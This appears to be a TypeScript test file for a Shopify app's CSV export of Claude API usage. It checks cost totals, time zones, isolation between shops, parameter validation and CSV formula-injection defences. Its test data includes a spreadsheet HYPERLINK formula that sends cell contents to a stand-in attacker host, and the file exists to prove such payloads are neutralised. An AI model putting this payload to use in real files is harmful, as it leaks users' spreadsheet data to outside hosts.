import { parse } from "csv-parse/sync";
import { beforeAll, describe, expect, test } from "vitest";
import prisma from "~/db.server";
import { picosFromUsd } from "~/lib/money";
import { writeUsageBatch, getUsageRecorder, trackAPIUsage } from "~/lib/usage/index.server";
import { generateSyntheticUsage } from "../../demo/usage";
import { getDailyUsageTrends, getUsageTotals } from "~/lib/analytics/index.server";
import { action, loader } from "~/routes/app.export";
import { adminRequest, installShop, responseOf } from "../support/shopify-auth";
import { callParams, createShop } from "../support/usage-fixtures";

const SHOP_A = "export-alpha.myshopify.com";
const SHOP_B = "export-beta.myshopify.com";
const NOVEMBER = { from: "2026-11-01", to: "2026-11-30" };

/** Error messages and resource ids a spreadsheet could take for formulas, or that stress RFC 4180 quoting. */
const HOSTILE_TEXT = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
  "+1",
  "-2",
  "@x",
  "\tTabbed",
  "\rCarriage",
  'He said "no", then left\r\nfor good',
  "\uFF1DSUM(1,2)",
];

beforeAll(async () => {
  for (const [shop, zone, seed] of [
    [SHOP_A, "America/New_York", 21],
    [SHOP_B, "Asia/Kolkata", 22],
  ] as const) {
    await installShop(shop);
    await createShop(shop, zone);
    // Both shops get calls on the same days, so a leak between them could not hide behind the date range.
    const calls = [
      ...generateSyntheticUsage({
        shop,
        from: new Date("2026-10-30T00:00:00Z"),
        to: new Date("2026-12-02T00:00:00Z"),
        calls: 600,
        seed,
        idPrefix: `${shop.split(".")[0]}`,
      }),
    ];
    await writeUsageBatch(prisma, calls);
  }
  for (const [index, text] of HOSTILE_TEXT.entries()) {
    await trackAPIUsage(
      callParams(SHOP_A, {
        id: `hostile-${index}`,
        timestamp: new Date(`2026-11-1${index % 10}T15:00:00Z`),
        status: "error",
        errorType: "api_error",
        errorMessage: text,
        resourceId: text,
        inputTokens: 120,
        outputTokens: 7,
      }),
    );
  }
  // A model the catalog cannot price: its cost is unknown, not $0.
  await trackAPIUsage(
    callParams(SHOP_A, {
      id: "unpriced-1",
      model: "claude-experimental-9",
      timestamp: new Date("2026-11-20T15:00:00Z"),
    }),
  );
  await getUsageRecorder().drain();
});

const args = (request: Request) => ({ request, params: {}, context: {} });

async function postExport(shop: string, fields: Record<string, string>): Promise<Response> {
  const body = new FormData();
  for (const [name, value] of Object.entries(fields)) body.set(name, value);
  const request = await adminRequest(shop, "/app/export", { method: "POST", body });
  return responseOf(() => action(args(request)));
}

type CsvRow = Record<string, string>;

/** The response body as csv-parse reads it (a strict RFC 4180 parser), keyed by the header row. */
async function csvRows(response: Response): Promise<{ text: string; rows: CsvRow[] }> {
  const text = new TextDecoder("utf-8", { ignoreBOM: true }).decode(await response.arrayBuffer());
  const rows = parse(text, { bom: true, columns: true, record_delimiter: "\r\n" }) as CsvRow[];
  return { text, rows };
}

const sumExact = (rows: CsvRow[], column: string) =>
  rows.reduce((total, row) => total + (row[column] ? picosFromUsd(row[column]!) : 0n), 0n);

describe("POST /app/export (calls)", () => {
  test("streams a CSV attachment whose exact costs add up to the library's total to the pico", async () => {
    const response = await postExport(SHOP_A, { kind: "calls", ...NOVEMBER });
    expect(response.status).toBe(200);
    expect(response.headers.get("Content-Type")).toBe("text/csv; charset=utf-8");
    expect(response.headers.get("Content-Disposition")).toBe(
      `attachment; filename="claude-usage-${SHOP_A}-2026-11-01_2026-11-30.csv"`,
    );
    expect(response.body).toBeInstanceOf(ReadableStream);

    const { text, rows } = await csvRows(response);
    expect(text.startsWith("\uFEFFcall_id,request_id,time_utc,local_time,time_zone,local_day,")).toBe(true);
    expect(text.endsWith("\r\n")).toBe(true);

    const totals = await getUsageTotals({ shop: SHOP_A }, NOVEMBER);
    expect(rows).toHaveLength(totals.calls);
    expect(totals.calls).toBeGreaterThan(500);
    // cost_usd_exact carries all 12 decimals: its sum is the library's figure, exactly.
    expect(sumExact(rows, "cost_usd_exact")).toBe(totals.costPicos);
    // cost_usd is rounded to 6 decimals per row for reading; its sum may drift by up to half a micro-dollar a row.
    const drift = sumExact(rows, "cost_usd") - totals.costPicos;
    expect(drift < 0n ? -drift : drift).toBeLessThanOrEqual(BigInt(rows.length) * 500_000n);
  });

  test("a call whose model had no price has empty cost cells and cost_known=false, never 0", async () => {
    const { rows } = await csvRows(await postExport(SHOP_A, { kind: "calls", ...NOVEMBER }));
    const unpriced = rows.filter((row) => row.cost_known === "false");
    expect(unpriced.map((row) => row.call_id)).toEqual(["unpriced-1"]);
    expect(unpriced[0]).toMatchObject({ cost_usd: "", cost_usd_exact: "", model: "claude-experimental-9" });
    expect(rows.filter((row) => row.cost_known === "true").every((row) => /^\d+\.\d{6}$/.test(row.cost_usd!))).toBe(
      true,
    );
  });

  test("times are UTC ISO-8601 plus the shop's local time, zone and day", async () => {
    const { rows } = await csvRows(await postExport(SHOP_A, { kind: "calls", ...NOVEMBER, endpoint: "fix_meta" }));
    const hostile = rows.find((row) => row.call_id === "hostile-0");
    // 15:00 UTC on Nov 10 is 10:00 EST in New York.
    expect(hostile).toMatchObject({
      time_utc: "2026-11-10T15:00:00.000Z",
      local_time: "2026-11-10 10:00:00",
      time_zone: "America/New_York",
      local_day: "2026-11-10",
    });
  });

  test("formula-like and awkward text round-trips through a real CSV parser as neutralised text", async () => {
    const { rows } = await csvRows(
      await postExport(SHOP_A, { kind: "calls", ...NOVEMBER, status: "error", model: "claude-sonnet-4-5-20250929" }),
    );
    for (const [index, text] of HOSTILE_TEXT.entries()) {
      const row = rows.find((candidate) => candidate.call_id === `hostile-${index}`);
      const startsLikeFormula = /^[=+\-@\t\r\uFF1D]/.test(text);
      const expected = startsLikeFormula ? `'${text}` : text;
      expect(row?.error_message, JSON.stringify(text)).toBe(expected);
      expect(row?.resource_id, JSON.stringify(text)).toBe(expected);
    }
    // Nothing but the neutralised cells starts like a formula.
    for (const row of rows) {
      for (const value of Object.values(row))
        expect(value, JSON.stringify(value)).not.toMatch(/^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/);
    }
  });

  test("shop B's export holds only shop B's calls, though both shops have calls on the same days", async () => {
    const [a, b] = await Promise.all([
      csvRows(await postExport(SHOP_A, { kind: "calls", ...NOVEMBER })),
      csvRows(await postExport(SHOP_B, { kind: "calls", ...NOVEMBER })),
    ]);
    expect(b.rows.length).toBe((await getUsageTotals({ shop: SHOP_B }, NOVEMBER)).calls);
    expect(b.rows.every((row) => row.call_id!.startsWith("export-beta-"))).toBe(true);
    expect(b.rows.every((row) => row.time_zone === "Asia/Kolkata")).toBe(true);
    const idsOfA = new Set(a.rows.map((row) => row.call_id));
    expect(b.rows.some((row) => idsOfA.has(row.call_id))).toBe(false);
  });
});

describe("POST /app/export (daily summary)", () => {
  test("one row per local day whose columns add up to the library's daily figures and month total", async () => {
    const response = await postExport(SHOP_A, { kind: "daily", ...NOVEMBER });
    expect(response.status).toBe(200);
    expect(response.headers.get("Content-Disposition")).toBe(
      `attachment; filename="claude-usage-daily-${SHOP_A}-2026-11-01_2026-11-30.csv"`,
    );
    const { rows } = await csvRows(response);

    const trend = await getDailyUsageTrends({ shop: SHOP_A }, NOVEMBER);
    expect(rows.map((row) => row.local_day)).toEqual(trend.map((point) => point.day));
    expect(rows.map((row) => Number(row.calls))).toEqual(trend.map((point) => point.calls));
    expect(rows.map((row) => Number(row.error_calls))).toEqual(trend.map((point) => point.errorCalls));
    expect(rows.map((row) => BigInt(row.output_tokens!))).toEqual(trend.map((point) => point.outputTokens));
    expect(sumExact(rows, "cost_usd_exact")).toBe((await getUsageTotals({ shop: SHOP_A }, NOVEMBER)).costPicos);
    // Nov 20 holds the unpriced call: its cost covers the priced calls only and says so.
    expect(rows.find((row) => row.local_day === "2026-11-20")).toMatchObject({
      unpriced_calls: "1",
      cost_known: "false",
    });
  });

  test("filters narrow the summary the same way they narrow the calls file", async () => {
    const filters = { ...NOVEMBER, endpoint: "alt_text", status: "success" };
    const [daily, calls] = await Promise.all([
      csvRows(await postExport(SHOP_A, { kind: "daily", ...filters })),
      csvRows(await postExport(SHOP_A, { kind: "calls", ...filters })),
    ]);
    expect(daily.rows.reduce((total, row) => total + Number(row.calls), 0)).toBe(calls.rows.length);
    expect(sumExact(daily.rows, "cost_usd_exact")).toBe(sumExact(calls.rows, "cost_usd_exact"));
    expect(calls.rows.every((row) => row.endpoint === "alt_text" && row.status === "success")).toBe(true);
  });
});

describe("POST /app/export with bad parameters", () => {
  test.each([
    [
      "a reversed range",
      { kind: "calls", from: "2026-11-30", to: "2026-11-01" },
      "The start date is after the end date.",
    ],
    [
      "a range over 366 days",
      { kind: "calls", from: "2025-01-01", to: "2026-11-30" },
      "A range can cover at most 366 days.",
    ],
    [
      "a date that does not exist",
      { kind: "calls", from: "2026-02-30", to: "2026-03-01" },
      'Start date "2026-02-30" is not a date written as YYYY-MM-DD.',
    ],
    ["no dates", { kind: "calls" }, "Choose a start date and an end date (YYYY-MM-DD)."],
    [
      "an unknown kind",
      { kind: "everything", ...NOVEMBER },
      'Unknown export kind ("everything"): choose calls or daily.',
    ],
    ["an unknown status", { kind: "calls", ...NOVEMBER, status: "pending" }, "Status must be success or error."],
    [
      "a model the shop never used",
      { kind: "daily", ...NOVEMBER, model: "claude-nonexistent" },
      'Unknown model "claude-nonexistent": this store has no calls with it.',
    ],
    [
      "an unknown endpoint",
      { kind: "calls", ...NOVEMBER, endpoint: "delete_everything" },
      'Unknown endpoint "delete_everything": this store has no calls with it.',
    ],
    [
      "an unknown resource type",
      { kind: "calls", ...NOVEMBER, resourceType: "customer" },
      'Unknown resource type "customer": this store has no calls with it.',
    ],
  ])("%s is a 400 with a clear message and nothing else", async (_name, fields, message) => {
    const response = await postExport(SHOP_A, fields);
    expect(response.status).toBe(400);
    expect(response.headers.get("Content-Type")).toMatch(/^application\/json/);
    expect(response.headers.get("Content-Disposition")).toBeNull();
    expect(await response.json()).toEqual({ error: message });
  });

  test("a model that another shop used is still unknown to this one", async () => {
    await trackAPIUsage(
      callParams(SHOP_B, { model: "claude-opus-4-1-20250805", timestamp: new Date("2026-11-05T10:00:00Z") }),
    );
    await getUsageRecorder().drain();
    const response = await postExport(SHOP_A, { kind: "calls", ...NOVEMBER, model: "claude-opus-4-1-20250805" });
    expect(response.status).toBe(400);
  });

  test("a request without a session token gets no CSV", async () => {
    const body = new FormData();
    body.set("kind", "calls");
    body.set("from", NOVEMBER.from);
    body.set("to", NOVEMBER.to);
    const request = new Request("https://app.test.example/app/export", {
      method: "POST",
      body,
      headers: { Accept: "application/json" },
    });
    const response = await responseOf(() => action(args(request)));
    expect(response.status).not.toBe(200);
    expect(response.headers.get("Content-Disposition")).toBeNull();
  });

  test("a GET is refused: exports are made with POST only, so no export URL can carry a token", async () => {
    const response = await responseOf(async () =>
      loader(args(await adminRequest(SHOP_A, "/app/export?kind=calls&from=2026-11-01&to=2026-11-30"))),
    );
    expect(response.status).toBe(405);
    expect(response.headers.get("Allow")).toBe("POST");
  });
});
